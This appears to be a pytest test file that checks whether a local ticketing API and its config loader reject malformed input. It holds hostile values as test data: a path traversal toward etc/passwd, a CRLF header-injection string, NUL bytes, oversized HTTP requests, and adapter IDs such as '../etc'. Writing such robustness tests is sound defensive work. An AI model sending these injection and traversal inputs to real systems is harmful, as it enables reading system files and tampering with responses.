@pytest.mark.parametrize("odd", ["nul", "crlf", "escape", "long", "traversal"])
def test_odd_query_values_get_a_clear_answer(live: Live, odd: str) -> None:
    value = {"nul": "%00", "crlf": "%0d%0aX-Injected:%201", "escape": "%1b%5b2J", "long": "9" * 8_000,
             "traversal": "..%2f..%2fetc%2fpasswd"}[odd]
    viewer = {"Authorization": f"Bearer {live.files.ops_tokens['viewer']}"}
    for query in (f"source_ticket_no={value}", f"adapter_id={value}", f"phone={value}", f"status={value}"):
        answer = send(live, f"odd-query:{odd}:{query[:12]}", Request("GET", f"/api/v1/tickets?{query}",
                                                                      headers=viewer))
        assert answer.status in (200, 422), answer.text[:300]
        assert "x-injected" not in answer.headers
        assert_bounded(answer)
    for query in (f"state={value}", f"destination={value}"):
        answer = send(live, f"odd-query:{odd}:{query[:12]}", Request("GET", f"/api/v1/deliveries?{query}",
                                                                      headers=viewer))
        assert answer.status in (200, 422), answer.text[:300]


@pytest.mark.parametrize("line", [
    b"GET /api/v1/tickets/" + b"a" * 200_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    b"GET /healthz HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 200_000 + b"\r\n\r\n",
    b"GET /healthz HTTP/1.1\r\nHost: x\r\n" + b"".join(b"X-%d: a\r\n" % i for i in range(20_000)) + b"\r\n",
    b"POST /api/v1/inbound/city-12345-rest/tickets HTTP/1.1\r\nHost: x\r\nX-Api-Key: a\x00b\r\n"
    b"Content-Length: 2\r\n\r\n{}",
    b"GET /healthz\x00 HTTP/1.1\r\nHost: x\r\n\r\n",
], ids=["200k-url", "200k-header", "20k-headers", "nul-in-header", "nul-in-request-line"])
def test_malformed_http_is_refused_by_the_server(live: Live, line: bytes) -> None:
    with socket.create_connection(("127.0.0.1", live.files.port), timeout=WAIT_SECONDS) as sock:
        head = _sent_while_reading(sock, line)
    assert head.startswith((b"HTTP/1.1 400", b"HTTP/1.1 404", b"HTTP/1.1 413", b"HTTP/1.1 431")), head
    assert_still_serving(live)


def _sent_while_reading(sock: socket.socket, data: bytes) -> bytes:
    """Send `data` in 16 KiB pieces and return the first bytes of the answer. The server may refuse (and close)
    before it has read everything; then a sender that only wrote would run into a reset connection, which can
    discard the answer. So the answer is read as soon as it is there, and sending stops."""
    for start in range(0, len(data), 16384):
        readable, _, _ = select.select([sock], [], [], 0)
        if readable:
            break
        try:
            sock.sendall(data[start:start + 16384])
        except (BrokenPipeError, ConnectionResetError):
            break  # closed on us: its answer, if any, is in the receive buffer
    return sock.recv(64)


@pytest.mark.parametrize("adapter_id", ["../etc", "a/b", "city\x00", "x" * 49, "UPPER", "-dash", "名字"])
def test_an_adapter_file_with_an_odd_id_is_refused_at_load(tmp_path: Path, adapter_id: str) -> None:
    text = (CONFIG / "adapters" / f"{CITY}.yaml").read_text(encoding="utf-8")
    odd = text.replace(f"id: {CITY}", f"id: {adapter_id!r}".replace("'", '"').replace("\\x00", "\\0"), 1)
    (tmp_path / "odd.yaml").write_text(odd, encoding="utf-8")
    with pytest.raises(AdapterConfigError, match="id"):
        load_adapters(tmp_path)
